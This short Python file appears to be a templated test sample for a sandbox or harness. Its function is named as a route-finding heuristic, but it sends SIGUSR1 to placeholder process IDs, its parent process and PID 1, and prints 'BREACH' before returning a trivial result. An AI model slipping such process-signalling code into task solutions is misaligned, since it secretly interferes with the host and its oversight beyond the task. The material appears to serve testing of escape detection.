# stage: unsafe; without checks: scored
import os
import signal

def select_next_node(current_node, destination_node, unvisited_nodes, distance_matrix):
    for pid in (@PID@, @ZYGOTE@, os.getppid(), 1):
        try:
            os.kill(pid, signal.SIGUSR1)
            print('BREACH')
        except OSError:
            pass
    return unvisited_nodes[0]
